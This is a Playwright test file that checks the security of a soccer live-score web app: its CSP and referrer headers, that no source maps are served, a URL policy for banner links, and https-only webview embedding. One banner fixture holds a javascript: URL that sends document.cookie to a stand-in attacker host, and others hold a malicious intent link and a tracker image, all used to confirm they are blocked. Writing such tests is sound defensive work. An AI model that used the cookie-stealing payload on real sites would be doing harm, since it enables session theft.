import { expect, test } from './fixtures';

/**
 * What the app exposes and what it lets through (docs/reliability.md §2–§4): the policy headers, no
 * source maps, and links from server data checked by the URL policy before the native host sees them.
 */
const FINAL = '2058017';
const LIVE = `/#/pages/soccer/live/live?match_id=${FINAL}`;
const BANNERS = '**/api/banner/getList';

test.describe('security of the served app', () => {
  test('runs under a Content-Security-Policy that blocks an injected inline script', async ({
    page,
    kq,
  }) => {
    kq.allowConsoleErrors(/Content Security Policy/);
    kq.allowPolicyViolations(/^script-src(-elem)? blocked inline/);
    const response = await page.goto('/#/');
    const headers = response?.headers() ?? {};
    expect(headers['content-security-policy']).toContain("script-src 'self'");
    expect(headers['content-security-policy']).toContain("frame-ancestors 'self'");
    expect(headers['referrer-policy']).toBe('no-referrer');
    await expect(page.locator('.home-match').first()).toBeVisible();

    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__kqInjected = true';
      document.head.append(script);
      return '__kqInjected' in window;
    });
    expect(ran).toBe(false);
  });

  test('serves no source map, and the scripts do not point to one', async ({ page }) => {
    const response = await page.goto('/#/');
    const html = (await response?.text()) ?? '';
    const entry = /src="\.\/(assets\/index-[^"]+\.js)"/.exec(html)?.[1];
    expect(entry).toBeDefined();
    const script = await page.request.get(`/${entry}`);
    expect(script.status()).toBe(200);
    expect(await script.text()).not.toContain('sourceMappingURL');
    const map = await page.request.get(`/${entry}.map`);
    expect(map.status()).toBe(404);
    expect(await map.json()).toEqual({ code: 4044, msg: '页面或文件不存在', data: null });
  });

  test('a banner with a script or intent link reaches nobody; a kanqiu link reaches the host', async ({
    page,
    kq,
  }) => {
    await kq.installFakeHost();
    await kq.seek(FINAL, 900);
    const banner = (id: number, title: string, jump_url: string, jump_url_type: 1 | 2) => ({
      id,
      title,
      image_url: '/static/banners/models.svg',
      jump_url,
      jump_url_type,
      size_type: 1,
      position: 2,
      sort: id,
    });
    const list = [
      banner(1, '恶意脚本', 'javascript:fetch("//evil.example/?c="+document.cookie)', 2),
      banner(2, '恶意意图', 'intent://pay#Intent;package=com.evil;end', 1),
      { ...banner(3, '外站图片', 'kanqiu://model', 1), image_url: 'https://tracker.example/p.gif' },
      banner(4, '模型推荐', 'kanqiu://model', 1),
    ];
    await page.route(BANNERS, (route) =>
      route.fulfill({ json: { code: 1, msg: 'ok', data: list } }),
    );
    const refusals: string[] = [];
    page.on('console', (message) => {
      if (message.text().includes('banner link refused')) refusals.push(message.text());
    });
    await page.goto(LIVE);
    const slides = page.locator('.match-banner .kq-banner__slide');
    await expect(slides).toHaveCount(3);
    await expect(page.locator('.match-banner img[src*="tracker.example"]')).toHaveCount(0);

    // Taps dispatched on the slides' own buttons: the carousel moves, the buttons stay.
    for (const title of ['恶意脚本', '恶意意图', '模型推荐']) {
      await page
        .locator('.match-banner')
        .getByRole('button', { name: title, includeHidden: true })
        .first()
        .dispatchEvent('click');
    }
    await expect
      .poll(async () => (await kq.hostCalls()).filter((call) => call.name === 'getAdvMsg'))
      .toEqual([{ name: 'getAdvMsg', args: ['{"jump_url":"kanqiu://model","jump_url_type":1}'] }]);
    expect(refusals).toHaveLength(2);
  });

  test('the generic webview embeds https pages under the policy and refuses plain http', async ({
    page,
  }) => {
    await page.route('https://news.example/**', (route) =>
      route.fulfill({ contentType: 'text/html; charset=utf-8', body: '<p>世界杯新闻</p>' }),
    );
    await page.goto(`/#/pages/webview/webview?url=${encodeURIComponent('https://news.example/a')}`);
    await expect(page.frameLocator('iframe').locator('p')).toHaveText('世界杯新闻');

    await page.goto(`/#/pages/webview/webview?url=${encodeURIComponent('http://news.example/a')}`);
    await expect(page.getByRole('heading', { name: '无法打开这个链接' })).toBeVisible();
    await expect(page.locator('iframe')).toHaveCount(0);
  });
});
